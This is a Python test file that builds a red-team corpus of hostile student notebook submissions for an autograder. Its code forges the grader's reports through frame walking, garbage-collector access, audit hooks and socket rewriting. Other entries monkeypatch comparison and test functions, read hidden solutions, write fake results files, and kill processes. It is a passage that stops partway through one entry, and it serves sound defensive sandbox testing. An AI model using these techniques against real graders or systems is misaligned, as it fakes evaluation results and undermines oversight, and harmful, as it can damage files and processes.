"""The red-team corpus: hostile and broken a02_shapes submissions, each a notebook a student could hand in.

Every attack starts from an honest submission: the released notebook with the solution's answers filled
in. Its cells are marked in their metadata: an "attack" cell is the hostile part, an "honest" cell is a
partial answer the student wrote honestly; removing the attack cells gives the notebook's honest content,
which the attack must never out-score. Rebuild the notebooks after changing this file with

    .venv/bin/python tests/redteam/corpus.py

(test_redteam.py fails when one is missing or stale). Attacks that try to leave the sandbox write files
named REDTEAM_WAS_HERE; the test looks for them.
"""

from __future__ import annotations

import copy
import json
import sys
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
NOTEBOOKS = Path(__file__).resolve().parent / "notebooks"
ASSIGNMENT = "a02_shapes"
TARGET = "flatten_view"
MARKER = "REDTEAM_WAS_HERE"
HOST_MARKER = f"/tmp/{MARKER}"  # the grader machine's /tmp, outside every sandbox


@dataclass(frozen=True)
class Attack:
    name: str
    vector: str  # what it tries, for a reader of the corpus
    says: str | tuple[str, ...]  # phrase(s) (English): the TA-facing reasons of the lost points contain one
    cells: tuple[tuple[str, str], ...] = ()  # (role, source); role "attack" or "honest"
    target: str | None = TARGET  # the exercise whose answer cell the cells replace; None: appended at the end
    raw: bytes | None = None  # a file that is not a sound notebook at all
    drop_target: bool = False  # the target's answer cell is deleted and nothing replaces it
    forges: bool = False  # it tries to make the child report facts its answer does not have: must be flagged

    @property
    def phrases(self) -> tuple[str, ...]:
        return (self.says,) if isinstance(self.says, str) else self.says


def attack(source: str) -> tuple[str, str]:
    return ("attack", source.strip("\n") + "\n")


def honest(source: str) -> tuple[str, str]:
    return ("honest", source.strip("\n") + "\n")


WRONG = "def flatten_view(t):\n    return torch.zeros(t.numel(), dtype=t.dtype)\n"
COPYING = honest(
    "def flatten_view(t):\n    if not t.is_contiguous():\n        raise RuntimeError('not contiguous')\n"
    "    return t.clone().view(-1)\n"
)  # right values, refuses like view, but a copy
FIND_KIT = '''
import glob, os, sys
def kit_places():
    """Where the grader might live: paths in argv, sys.path, the interpreter, the usual suspects."""
    found = set()
    for text in [open("/proc/1/cmdline", "rb").read().decode(errors="replace"),
                 open("/proc/self/cmdline", "rb").read().decode(errors="replace"), sys.executable, *sys.path]:
        for part in text.replace("\\0", " ").split():
            while part and part != "/":
                found.add(part)
                part = os.path.dirname(part)
    return sorted(found | {"/work/main", "/autograder", "/grade", "/srv", "/home", "/root", os.getcwd(), "/tmp"})
'''

# -- forging what the student's process reports. Each attack below turns a known mistake (a copy where a view
# is required, an input modified in place) into a pass on the kit as it was before the child was sealed: it
# reaches the code that describes answers, or the channel, and makes it lie. The honest cell is the mistake.
ONE_REGION = '''
def _one_region(namespace):
    """Make the describing code's captured storage getters say every tensor lives at one address."""
    if isinstance(namespace, dict) and "_storage_data_ptr" in namespace:
        namespace["_storage_data_ptr"] = lambda storage: 4096
        namespace["_storage_nbytes"] = lambda storage: 1 << 40
        return True
    return False
def _one_region_everywhere(namespace):
    hits = _one_region(namespace)
    for value in list(namespace.values()) if isinstance(namespace, dict) else []:
        hits |= _one_region(getattr(value, "__dict__", None))
    return hits
'''
RELABEL = '''
import msgpack, struct
def _relabel(frame):
    """An answer frame whose every value claims memory region 0: all of them share memory."""
    head_len, count = struct.unpack_from("<II", frame)
    start = 8 + 8 * count
    header = msgpack.unpackb(bytes(frame[start:start + head_len]), raw=False)
    def mark(node):
        if isinstance(node, dict):
            if node.get("t") in ("tensor", "ndarray"):
                node["mem"] = 0
            for value in node.values():
                mark(value)
        elif isinstance(node, list):
            for value in node:
                mark(value)
    mark(header)
    head = msgpack.packb(header, use_bin_type=True)
    return struct.pack("<II", len(head), count) + bytes(frame[8:start]) + head + bytes(frame[start + head_len:])
'''
MODIFIES_INPUT = honest("""
def df_to_tensor(df):
    for name in df.columns:
        if df[name].dtype == bool:
            df[name] = df[name].astype(int)
    return torch.tensor(df.values, dtype=torch.float32)
""")  # casts bool columns in the caller's frame: modifies its input

FORGERIES = [
    Attack(
        "forge_caller_frame_globals",
        "sys._getframe(1).f_globals up the stack, patching the describing code's captured getters",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                ONE_REGION
                + """
import sys
_copy = flatten_view
def flatten_view(t):
    frame = sys._getframe(1)
    while frame is not None:
        _one_region_everywhere(frame.f_globals)
        frame = frame.f_back
    return _copy(t)
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_subclasses_walk",
        "object.__subclasses__() to every kit class, then its methods' __globals__",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                ONE_REGION
                + """
_stack, _seen = [object], set()
while _stack:
    for _cls in type.__subclasses__(_stack.pop()):
        if id(_cls) in _seen:
            continue
        _seen.add(id(_cls))
        _stack.append(_cls)
        for _attr in list(vars(_cls).values()):
            _one_region(getattr(getattr(_attr, "__func__", _attr), "__globals__", None))
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_gc_unfreeze",
        "gc.unfreeze() and gc.get_objects() to the module dict holding the captured getters",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                ONE_REGION
                + """
import gc
gc.unfreeze()
for _obj in gc.get_objects():
    _one_region(_obj)
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_traceback_frames",
        "a traceback's frame, then f_back up to the program object and its module",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                ONE_REGION
                + """
_copy = flatten_view
def flatten_view(t):
    try:
        raise LookupError
    except LookupError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        program = frame.f_locals.get("self")
        for method in ("call", "handle"):
            _one_region_everywhere(getattr(getattr(program, method, None), "__globals__", None))
        frame = frame.f_back
    return _copy(t)
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_program_method",
        "replace the program object's handle() with one that rewrites each answer",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                RELABEL
                + """
_stack, _seen = [object], set()
while _stack:
    for _cls in type.__subclasses__(_stack.pop()):
        if id(_cls) not in _seen:
            _seen.add(id(_cls))
            _stack.append(_cls)
            if str(getattr(_cls, "__module__", "")).startswith("autograder") and hasattr(_cls, "handle"):
                _cls.handle = lambda self, frame, _original=_cls.handle: _relabel(_original(self, frame))
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_socket_class",
        "replace socket.socket.sendall so every answer frame is rewritten as it is sent",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                RELABEL
                + """
import socket
_sendall = socket.socket.sendall
def _rewriting_sendall(self, data, *rest):
    try:
        (size,) = struct.unpack_from("<Q", data)
        if size == len(data) - 8:
            frame = _relabel(bytes(data[8:]))
            data = struct.pack("<Q", len(frame)) + frame
    except Exception:
        pass
    return _sendall(self, data, *rest)
socket.socket.sendall = _rewriting_sendall
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_channel_write",
        "take the call channel over with os.write: answer this call and every later one "
        "with hand-made frames in the documented wire format, claiming shared memory",
        ("not written by the kit", "not credited"),
        (
            COPYING,
            attack("""
import os, stat, struct, msgpack
_copy = flatten_view
def _channel():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
def _exactly(fd, size):
    data = b""
    while len(data) < size:
        chunk = os.read(fd, size - len(data))
        if not chunk:
            os._exit(0)
        data += chunk
    return data
def _described(x, blob):
    return {"t": "tensor", "dtype": str(x.dtype).removeprefix("torch."), "shape": list(x.shape), "device": "cpu",
            "requires_grad": False, "is_leaf": True, "grad_fn": None, "stride": list(x.stride()),
            "offset": x.storage_offset(), "contiguous": x.is_contiguous(), "id": id(x), "grad": None,
            "data": blob, "mem": 0}
def _answer(fd, t, function):
    result, error = None, None
    try:
        result = function(t)
    except Exception as raised:
        error = {"type": type(raised).__name__, "message": str(raised), "frames": []}
    blobs = [t.contiguous().numpy().tobytes()] + ([] if result is None else [result.contiguous().numpy().tobytes()])
    header = {"op": "result", "error": error, "backward_error": None, "output": "", "refused": [],
              "value": None if result is None else _described(result, 1),
              "args": {"t": "list", "items": [_described(t, 0)]}, "kwargs": {"t": "dict", "items": {}}}
    head = msgpack.packb(header, use_bin_type=True)
    frame = struct.pack(f"<II{len(blobs)}Q", len(head), len(blobs), *map(len, blobs)) + head + b"".join(blobs)
    os.write(fd, struct.pack("<Q", len(frame)) + frame)
def _request(fd):
    frame = _exactly(fd, struct.unpack("<Q", _exactly(fd, 8))[0])
    head_len, count = struct.unpack_from("<II", frame)
    sizes = struct.unpack_from(f"<{count}Q", frame, 8)
    offset = 8 + 8 * count
    header = msgpack.unpackb(frame[offset:offset + head_len], raw=False)
    offset += head_len
    blobs = []
    for size in sizes:
        blobs.append(frame[offset:offset + size])
        offset += size
    desc = header["args"]["items"][0]
    dtype = getattr(torch, desc["dtype"])
    memory = torch.frombuffer(bytearray(blobs[desc["storage_data"]]), dtype=torch.uint8) if blobs[desc[
        "storage_data"]] else torch.empty(0, dtype=torch.uint8)
    base = torch.empty(0, dtype=dtype).set_(memory.untyped_storage()) if memory.numel() else torch.empty(0, dtype=dtype)
    return header["name"], base.as_strided(desc["shape"], desc["stride"], desc["offset"])
def flatten_view(t):
    fd = _channel()
    _answer(fd, t, _copy)
    while True:  # from now on this code answers the grader
        name, t = _request(fd)
        _answer(fd, t, _copy if name == "flatten_view" else globals()[name])
"""),
        ),
        forges=True,
    ),
    Attack(
        "forge_main_module",
        "sys.modules['__main__'] to the kit package left by the bootstrap, then its modules",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                ONE_REGION
                + """
import sys
_main = sys.modules["__main__"]
for _name in list(vars(_main)):
    _one_region_everywhere(getattr(getattr(_main, _name), "__dict__", None))
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_stdout_globals",
        "type(sys.stdout).write.__globals__: the module that captures printed text",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                ONE_REGION
                + """
import sys
_copy = flatten_view
def flatten_view(t):
    _one_region_everywhere(getattr(type(sys.stdout).write, "__globals__", None))
    return _copy(t)
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_thread_during_description",
        "a thread that turns each returned copy into a view of the input while the answer is being described",
        ("copy", "not credited", "thread", "not found"),
        (
            COPYING,
            attack("""
import sys, threading, time
sys.setswitchinterval(1e-6)  # switch threads as often as possible: some switch will fall while it is described
_copy = flatten_view
_returned = []
_caller = threading.get_ident()  # the thread that runs the cells calls the functions too
def _turn_into_views():
    while True:
        frame = sys._current_frames().get(_caller)
        if frame is not None and frame.f_code.co_name in ("encode", "_frame", "frame", "value"):
            for result, source in list(_returned):  # the answer is being described: make it a view now
                try:
                    if result.untyped_storage().data_ptr() != source.untyped_storage().data_ptr():
                        result.set_(source.untyped_storage(), source.storage_offset(), result.shape, (1,))
                except Exception:
                    pass
        time.sleep(0)
threading.Thread(target=_turn_into_views, daemon=True).start()
def flatten_view(t):
    result = _copy(t)
    _returned.append((result, t))
    return result
"""),
        ),
        forges=True,
    ),
    Attack(
        "forge_raw_memory",
        "numpy's __array_interface__ over a raw address: a tensor on the input's memory, made without any view of it",
        ("not credited",),
        (
            COPYING,
            attack("""
import numpy as np
_copy = flatten_view
class _Memory:
    def __init__(self, address, nbytes):
        self.__array_interface__ = {"shape": (nbytes,), "typestr": "|u1", "data": (address, False), "version": 3}
def flatten_view(t):
    if not t.is_contiguous() or not t.numel():
        return _copy(t)
    raw = np.asarray(_Memory(t.data_ptr(), t.numel() * t.element_size()))
    return torch.from_numpy(raw).view(t.dtype)
"""),
        ),
        forges=True,
    ),
    Attack(
        "forge_pandas_internals",
        "patch pandas' DataFrame._get_column_array (what the describing code read) so "
        "the arguments echoed after the call look unmodified",
        ("modif", "not credited"),
        (
            MODIFIES_INPUT,
            attack("""
import pandas as pd
_convert = df_to_tensor
_pristine = {}
_column_array = pd.DataFrame._get_column_array
pd.DataFrame._get_column_array = lambda self, i: _column_array(_pristine.get(id(self), self), i)
def df_to_tensor(df):
    _pristine[id(df)] = df.copy()
    return _convert(df)
"""),
        ),
        target="df_to_tensor",
        forges=True,
    ),
    Attack(
        "forge_builtins_sorted",
        "replace builtins.sorted, which the describing code used to group memory regions",
        ("copy", "not credited"),
        (
            COPYING,
            attack("""
import builtins
_sorted = builtins.sorted
def _one_region_sorted(iterable, key=None, reverse=False):
    items = _sorted(iterable, key=key, reverse=reverse)
    if items and all(type(i) is tuple and len(i) == 3 and type(i[2]) is dict and "t" in i[2] for i in items):
        return [(0, 1 << 62, desc) for _, _, desc in items]
    return items
builtins.sorted = _one_region_sorted
"""),
        ),
        forges=True,
    ),
    Attack(
        "forge_audit_hook",
        "an audit hook of the student's, to run inside the kit's code on its next audited "
        "event and patch it from there",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                ONE_REGION
                + """
import sys
_busy = []
def _inside(event, args):
    if _busy:
        return
    _busy.append(1)
    try:
        frame = sys._getframe(1)
        while frame is not None:
            _one_region_everywhere(frame.f_globals)
            frame = frame.f_back
    finally:
        _busy.clear()
sys.addaudithook(_inside)
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_gc_callbacks_from_a_thread",
        "a thread that keeps the garbage collector on, so that a collection "
        "set off by the sealed thread's allocations runs the student's gc.callbacks there, past the audit hook",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                ONE_REGION
                + """
import gc, sys, threading
_sealed = threading.main_thread().ident  # the thread that describes answers
def _in_the_sealed_thread(phase, info):
    if threading.get_ident() != _sealed:
        return
    frame = sys._getframe(1)
    while frame is not None:  # the sealed side's frames: their functions' globals, and the session key
        for value in list(frame.f_locals.values()):
            _one_region(getattr(value, "__globals__", None))
        frame = frame.f_back
gc.callbacks.append(_in_the_sealed_thread)
def _keep_collecting():
    sys.setswitchinterval(1e-6)
    while True:
        gc.enable()
        gc.set_threshold(1, 1, 1)
threading.Thread(target=_keep_collecting, daemon=True).start()
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_signal_handler",
        "a signal handler, which Python runs in the main thread (the sealed one), set with an interval timer",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                ONE_REGION
                + """
import signal, sys
def _handler(number, frame):
    while frame is not None:
        _one_region_everywhere(frame.f_globals)
        for value in list(frame.f_locals.values()):
            _one_region(getattr(value, "__globals__", None))
        frame = frame.f_back
try:
    signal.signal(signal.SIGALRM, _handler)
    signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
except ValueError as error:
    print("refused:", error)
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_finalizer",
        "a tensor subclass whose finalizer patches whatever kit code is on the stack of the thread that drops it last",
        ("copy", "not credited"),
        (
            COPYING,
            attack(
                ONE_REGION
                + """
import sys
_copy = flatten_view
class _Trap(torch.Tensor):
    def __del__(self):
        frame = sys._getframe(1)
        while frame is not None:
            _one_region_everywhere(frame.f_globals)
            frame = frame.f_back
def flatten_view(t):
    return _copy(t).as_subclass(_Trap)
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_torch_function_getters",
        "a tensor subclass whose __torch_function__ answers the describing "
        "code's own C-level getters: untyped_storage() gives the input's storage for a copy",
        ("copy", "not credited"),
        (
            COPYING,
            attack("""
_copy = flatten_view
class _SameStorage(torch.Tensor):
    source = None
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") == "untyped_storage" and cls.source is not None:
            return cls.source.untyped_storage()
        return super().__torch_function__(func, types, args, kwargs or {})
def flatten_view(t):
    _SameStorage.source = t
    return _copy(t).as_subclass(_SameStorage)
"""),
        ),
        forges=True,
    ),
    Attack(
        "forge_gc_garbage",
        "an answer the sealed side cannot describe, then gc.DEBUG_SAVEALL: the traceback of "
        "its failure, left in a cycle, would bring the private code's frames and globals to gc.garbage",
        ("copy", "not credited", "cannot be graded"),
        (
            COPYING,
            attack(
                ONE_REGION
                + """
import gc
_copy = flatten_view
_calls = []
def flatten_view(t):
    _calls.append(1)
    if len(_calls) == 1:
        return torch.zeros(2, dtype=torch.float8_e4m3fn)  # raises where it is described
    gc.set_debug(gc.DEBUG_SAVEALL)
    gc.collect()
    for obj in gc.garbage:
        if type(obj).__name__ == "frame":
            _one_region(obj.f_globals)
    return _copy(t)
"""
            ),
        ),
        forges=True,
    ),
    Attack(
        "forge_code_from_a_file",
        "write the forging code to a module in the scratch directory and import it: the scan reads only the notebook",
        ("copy", "not credited"),
        (
            COPYING,
            attack('''
HELPER = """
import sys
def reach():
    frame = sys._getframe(0)
    while frame is not None and frame.f_code.co_name != "park":
        frame = frame.f_back
    codec = frame.f_locals["tools"][1].__globals__["codec"]
    decode = codec.decode
    room = {}
    def roomy(data, live=False, defer=()):
        header, out = decode(data, live, defer)
        args = out.value.get("args")
        if args and type(args[0]).__name__ == "Tensor" and args[0].is_contiguous() and args[0].numel():
            t = args[0]
            storage = t.new_empty(2 * t.numel())
            storage[:t.numel()] = t.reshape(-1)
            args[0] = storage[:t.numel()].view(t.shape)
            room["storage"] = storage
        return header, out
    codec.decode = roomy
    return room
"""
import os, sys
try:
    with open("helper_module.py", "w") as file:
        file.write(HELPER)
    sys.path.insert(0, os.getcwd())
    import helper_module
    _room = helper_module.reach()
except (OSError, ImportError) as error:
    print("refused:", error)
    _room = {}
_copy = flatten_view
def flatten_view(t):
    storage = _room.get("storage")
    if storage is None or not t.is_contiguous() or storage.untyped_storage().data_ptr() != t.untyped_storage().data_ptr():
        return _copy(t)
    copy = storage[t.numel():]
    copy.copy_(t.reshape(-1))
    return copy
'''),
        ),
        forges=True,
    ),
    Attack(
        "forge_decoding_by_names_built_later",
        "getattr passed on and names built at run time (no construct the "
        "scan knew) to reach the kit's decoding from the student's own thread, so that the input arrives inside a "
        "larger storage where the function then puts its copy",
        ("copy", "not credited"),
        (
            COPYING,
            attack("""
import sys
read = getattr
_room = {}
def _decoding_in_one_storage():
    frame = read(sys, "_get" + "frame")(0)
    while frame is not None and read(read(frame, "f_" + "code"), "co_name") != "park":
        frame = read(frame, "f_" + "back")
    helpers = read(frame, "f_" + "locals")["tools"]
    codec = read(helpers[1], "__glo" + "bals__")["codec"]
    decode = codec.decode
    def roomy(frame, live=False, defer=()):
        header, out = decode(frame, live, defer)
        args = out.value.get("args")
        if args and isinstance(args[0], torch.Tensor) and args[0].is_contiguous() and args[0].numel():
            t = args[0]
            storage = torch.empty(2 * t.numel(), dtype=t.dtype)
            storage[:t.numel()] = t.reshape(-1)
            args[0] = storage[:t.numel()].view(t.shape)
            _room["storage"] = storage
        return header, out
    codec.decode = roomy
_decoding_in_one_storage()
def flatten_view(t):
    if not t.is_contiguous():
        raise RuntimeError("not contiguous")
    storage = _room.get("storage")
    if storage is None or storage.untyped_storage().data_ptr() != t.untyped_storage().data_ptr():
        return t.clone().view(-1)
    copy = storage[t.numel():]
    copy.copy_(t.reshape(-1))  # its own elements: a copy, in the storage the input came in
    return copy
"""),
        ),
        forges=True,
    ),
    Attack(
        "forge_ndarray_interface_lie",
        "an ndarray subclass whose __array_interface__ claims the input tensor's address for a copied array",
        ("should be", "not credited"),
        (
            honest("""
def tensor_to_numpy(t):
    return t.detach().clone().numpy()
"""),
            attack("""
import numpy as np
_convert = tensor_to_numpy
class _Claims(np.ndarray):
    source = None
    @property
    def __array_interface__(self):
        interface = dict(np.asarray(self).__array_interface__)
        interface["data"] = (_Claims.source.data_ptr(), False)
        return interface
def tensor_to_numpy(t):
    _Claims.source = t
    return _convert(t).view(_Claims)
"""),
        ),
        target="tensor_to_numpy",
        forges=True,
    ),
    Attack(
        "forge_trace_caller",
        "a trace function on the caller's frame that puts the returned copy in place of the "
        "echoed argument before the answer is described",
        ("copy", "not credited", "not allowed"),
        (
            COPYING,
            attack("""
import sys
_copy = flatten_view
def flatten_view(t):
    result = _copy(t)
    caller = sys._getframe(1)
    def tracer(frame, event, arg):
        message = frame.f_locals.get("message")
        if isinstance(message, dict) and "args" in message:
            message["args"] = [message["value"]]
        return tracer
    caller.f_trace = tracer
    sys.settrace(lambda *a: None)
    return result
"""),
        ),
        forges=True,
    ),
]

ATTACKS = [
    # -- types and dunders: only plain data crosses, so a clever object never reaches a comparison
    Attack(
        "eq_always_true",
        "object whose __eq__ is always True",
        "should be a Tensor",
        (
            attack("""
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
def flatten_view(t):
    return Anything()
"""),
        ),
    ),
    Attack(
        "bool_float_spoof",
        "object spoofing __bool__, __float__, __int__, __len__, __array__",
        "should be a Tensor",
        (
            attack("""
import numpy as np
class Chameleon:
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __len__(self): return 6
    def __iter__(self): return iter(range(6))
    def __array__(self, dtype=None, copy=None): return np.arange(6)
    def __eq__(self, other): return True
def flatten_view(t):
    return Chameleon()
"""),
        ),
    ),
    Attack(
        "tensor_subclass_torch_function",
        "torch.Tensor subclass whose __torch_function__ says every comparison holds",
        "wrong values",
        (
            attack("""
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "isclose", "__eq__", "eq", "all", "testing"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def flatten_view(t):
    return torch.zeros(t.numel(), dtype=t.dtype).as_subclass(Liar)
"""),
        ),
    ),
    Attack(
        "tensor_subclass_fakes_storage",
        "Tensor subclass claiming the input's storage, data_ptr and strides for a copy",
        "it is a copy",
        (
            COPYING,
            attack("""
_copy = flatten_view
class SharedLooking(torch.Tensor):
    source = None
    def untyped_storage(self): return SharedLooking.source.untyped_storage()
    def data_ptr(self): return SharedLooking.source.data_ptr()
    def storage_offset(self): return 0
    def is_contiguous(self, *a, **k): return True
def flatten_view(t):
    SharedLooking.source = t
    return _copy(t).as_subclass(SharedLooking)
"""),
        ),
    ),
    Attack(
        "retarget_input_to_its_copy",
        "return a copy and point the input at the copy's memory (set_): no "
        "report is forged, the objects really share memory after the call",
        "changed the memory",
        (
            COPYING,
            attack("""
_copy = flatten_view
def flatten_view(t):
    result = _copy(t)
    t.set_(result.untyped_storage(), 0, t.shape, t.stride())
    return result
"""),
        ),
    ),
    Attack(
        "retarget_input_away_from_its_view",
        "return a view and point the input at a copy of itself, so that the view no longer shares the input's memory",
        "changed the memory",
        (
            honest("""
def reshape_copy(t, shape):
    return t.reshape(shape)
"""),
            attack("""
_reshape = reshape_copy
def reshape_copy(t, shape):
    result = _reshape(t, shape)
    t.set_(t.clone())
    return result
"""),
        ),
        target="reshape_copy",
    ),
    Attack(
        "monkeypatch_storage_pointers",
        "patch torch.UntypedStorage.data_ptr/nbytes and Tensor.data_ptr so every tensor seems to share memory",
        "it is a copy",
        (
            COPYING,
            attack("""
torch.UntypedStorage.data_ptr = lambda self: 4096
torch.UntypedStorage.nbytes = lambda self: 1 << 40
torch.Tensor.data_ptr = lambda self: 4096
"""),
        ),
    ),
    Attack(
        "monkeypatch_numpy_bounds",
        "patch numpy's byte_bounds and shares_memory so a copied array seems to share the tensor's memory",
        ("it is a copy", "not credited"),
        (
            honest("""
def tensor_to_numpy(t):
    return t.detach().clone().numpy()
"""),
            attack("""
import numpy as np
np.lib.array_utils.byte_bounds = lambda a: (0, 1 << 62)
np.shares_memory = np.may_share_memory = lambda *a, **k: True
try:  # numpy's own types are immutable; the attempt is what counts
    np.ndarray.__array_interface__ = property(lambda self: {"data": (4096, False), "shape": self.shape,
                                                            "strides": None, "typestr": "|u1", "version": 3})
except TypeError:
    pass
"""),
        ),
        target="tensor_to_numpy",
    ),
    Attack(
        "monkeypatch_torch_comparisons",
        "patch torch.allclose/equal/testing.assert_close/Tensor.__eq__ to pass",
        "wrong values",
        (
            attack(
                """
import torch.testing
torch.allclose = torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: True
"""
                + WRONG
            ),
        ),
    ),
    Attack(
        "monkeypatch_numpy_testing",
        "patch numpy.testing and numpy comparisons to pass",
        "wrong values",
        (
            attack(
                """
import numpy as np, numpy.testing
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.allclose = np.array_equal = lambda *a, **k: True
"""
                + WRONG
            ),
        ),
    ),
    Attack(
        "monkeypatch_pytest",
        "import pytest in the notebook and disable failing (the grader's pytest is another process)",
        "wrong values",
        (
            attack(
                """
import pytest, _pytest.outcomes
pytest.fail = _pytest.outcomes.fail = lambda *a, **k: None
pytest.approx = lambda expected, *a, **k: type("Equal", (), {"__eq__": lambda s, o: True})()
try:
    import _pytest.python
    _pytest.python.Function.runtest = lambda self: None
except Exception:
    pass
"""
                + WRONG
            ),
        ),
    ),
    Attack(
        "monkeypatch_builtins",
        "replace isinstance/type checks and AssertionError in builtins",
        ("wrong values", "exited", "not credited"),
        (
            attack(
                """
import builtins
builtins.isinstance = lambda obj, cls: True
builtins.issubclass = lambda a, b: True
builtins.AssertionError = type("NeverRaised", (Exception,), {})
"""
                + WRONG
            ),
        ),
    ),
    Attack(
        "monkeypatch_grader_modules",
        "import the kit's modules, or fake them in sys.modules, to disable checks",
        ("wrong values", "not credited"),
        (
            attack("""
import sys, types
for name in ("autograder", "autograder.authoring.expect", "autograder.engine.grade", "autograder.boundary.parent",
             "autograder.boundary.codec"):
    try:
        __import__(name)
    except ImportError:
        sys.modules[name] = types.ModuleType(name)
    module = sys.modules[name]
    for attr in ("expect", "expect_tensor", "expect_shares", "expect_unchanged", "decode", "grade"):
        setattr(module, attr, lambda *a, **k: None)
def flatten_view(t):
    frame = sys._getframe(1)
    while frame is not None:  # neutralise anything check-like up the stack
        for key in list(frame.f_globals):
            if key.startswith(("expect", "assert")):
                frame.f_globals[key] = lambda *a, **k: None
        frame = frame.f_back
    return torch.zeros(t.numel(), dtype=t.dtype)
"""),
        ),
    ),
    Attack(
        "frame_inspection",
        "walk the caller frames and gc for an expected value to return",
        ("wrong values", "not allowed"),
        (
            attack("""
import gc, inspect, sys
def flatten_view(t):
    for frame in inspect.stack():
        for name, value in list(frame.frame.f_locals.items()):
            if name in ("expected", "want", "reference", "answer") and isinstance(value, torch.Tensor):
                return value
    for obj in gc.get_objects():
        if type(obj) is torch.Tensor and obj is not t and obj.numel() == t.numel() and obj.dim() == 1:
            return obj
    return torch.zeros(t.numel(), dtype=t.dtype)
"""),
        ),
    ),
    Attack(
        "gc_mutate_tensors",
        "zero every tensor gc can find, hoping an expected value is among them",
        ("wrong values", "not allowed"),
        (
            attack("""
import gc
def flatten_view(t):
    for obj in gc.get_objects():
        if isinstance(obj, torch.Tensor) and obj is not t:
            try:
                obj.zero_()
            except Exception:
                pass
    return torch.zeros(t.numel(), dtype=t.dtype)
"""),
        ),
    ),
    Attack(
        "read_hidden_files",
        "read the graders, the solutions and the gradebook from disk",
        "wrong values",
        (
            attack(
                FIND_KIT
                + """
LEAKED = []
for place in kit_places():
    for pattern in ("autograder/graders/*.py", "source/*/*.ipynb", "solutions/*/*.ipynb", "gradebook.db",
                    "submitted/*/*/*.ipynb", "graders/*.py", "*.py"):
        for path in glob.glob(os.path.join(place, pattern)):
            try:
                LEAKED.append((path, open(path, "rb").read(200)))
            except OSError:
                pass
print("LEAKED", [p for p, _ in LEAKED])
"""
                + WRONG
            ),
        ),
    ),
    Attack(
        "write_fake_results",
        "write results.json, a gradebook, feedback and a 'passed' log outside its scratch",
        "wrong values",
        (
            attack(
                FIND_KIT
                + """
import json
fake = json.dumps({"score": 100, "tests": [{"name": "flatten_view", "score": 7, "max_score": 7}]})
for place in kit_places() + ["/autograder/results", "/grade/results"]:
    for name in ("results.json", "gradebook.db", "REDTEAM_WAS_HERE", "feedback/REDTEAM_WAS_HERE.html",
                 "autograded/REDTEAM_WAS_HERE.ipynb"):
        try:
            os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
            with open(os.path.join(place, name), "w") as f:
                f.write(fake)
        except OSError:
            pass
for place in kit_places():  # and append to every grader, notebook and database in reach
    for pattern in ("autograder/graders/*.py", "autograder/*.py", "source/*/*.ipynb", "*.db"):
        for path in glob.glob(os.path.join(place, pattern)):
            try:
                with open(path, "a") as f:
                    f.write("\\n# REDTEAM_WAS_HERE\\n")
            except OSError:
                pass
print("==== 40 passed in 0.01s ====")
print(fake)
"""
                + WRONG
            ),
        ),
    ),
    Attack(
        "sys_exit",
        "sys.exit(0) inside the function",
        "SystemExit",
        (
            attack("""
import sys
def flatten_view(t):
    sys.exit(0)
"""),
        ),
    ),
    Attack(
        "os_exit",
        "os._exit(0) inside the function",
        "exited",
        (
            attack("""
import os
def flatten_view(t):
    os._exit(0)
"""),
        ),
    ),
    Attack(
        "atexit_exit",
        "atexit hook that exits 0, with a wrong answer",
        "wrong values",
        (
            attack(
                """
import atexit, os
atexit.register(os._exit, 0)
"""
                + WRONG
            ),
        ),
    ),
    Attack(
        "exit_while_loading",
        "os._exit(0) in a top-level cell: nothing of the notebook can be graded",
        "exited",
        (attack("import os\nos._exit(0)\n"),),
        target=None,
    ),
    Attack(
        "kill_the_grader",
        "SIGKILL the parent, the process group, every process, and every python it can see",
        "wrong values",
        (
            attack("""
import os, signal
def flatten_view(t):
    for pid in (os.getppid(), 0, -1, 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    return torch.zeros(t.numel(), dtype=t.dtype)
"""),
        ),
    ),
    Attack(
        "signal_tricks",
        "ignore SIGALRM/SIGTERM/SIGXCPU/SIGINT, cancel alarms, then never return",
        ("Timed out", "signal only works"),
        (
            attack("""
import signal
def flatten_view(t):
